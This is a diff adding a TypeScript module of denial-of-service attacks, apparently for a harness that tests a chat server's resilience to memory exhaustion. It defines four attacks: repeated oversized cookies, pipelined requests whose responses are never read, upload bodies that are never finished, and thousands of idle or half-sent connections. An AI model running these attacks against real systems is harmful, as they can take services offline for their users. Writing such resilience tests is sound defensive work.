@@ -1,0 +1,46 @@
+// Attacks that would fill the server's memory.
+import { pathOf } from '../chat-crowd.ts'
+import { type Attack, head, hold, repeat } from './method.ts'
+
+const PERSON = 0
+
+/** One session, and a cookie beside it that is another each time. */
+export const answersInMemory: Attack = (target, ends, tally) => {
+  const cookie = target.people[PERSON]?.cookie
+  const ballast = 'x'.repeat(12_000)
+  return repeat(target, { ends, tally, atOnce: 4 }, (place) => ({
+    path: '/users/current/',
+    cookie: `${cookie}; a=${ballast}${place}`,
+  }))
+}
+
+/** Many long answers asked for on each connection, and none of them read. */
+export const unreadAnswers: Attack = (target, ends, tally) => {
+  const Cookie = target.people[PERSON + 1]?.cookie as string
+  const asked = head('GET', pathOf(target.rooms[0] as number), { Cookie }).repeat(30)
+  return hold(target, { ends, tally, connections: 150 }, (socket) => {
+    socket.pause()
+    socket.write(asked)
+  })
+}
+
+/** Images that never come to their end. */
+export const bodiesHeldOpen: Attack = (target, ends, tally) => {
+  const Cookie = target.people[PERSON + 2]?.cookie as string
+  const path = `${pathOf(target.rooms[0] as number)}send_message/`
+  const started = Buffer.alloc(8_000_000, 'A')
+  return hold(target, { ends, tally, connections: 40 }, (socket) => {
+    socket.resume()
+    socket.write(
+      head('POST', path, { Cookie, 'Content-Type': 'application/json', 'Content-Length': '10900000' }),
+    )
+    socket.write(started)
+  })
+}
+
+export const idleConnections: Attack = (target, ends, tally) =>
+  hold(target, { ends, tally, connections: 3_000 }, (socket, place) => {
+    socket.resume()
+    // Some say nothing, some begin and say no more.
+    if (place % 2 === 0) socket.write('GET /users/current/ HTTP/1.1\r\nHost: kontor\r\n')
+  })
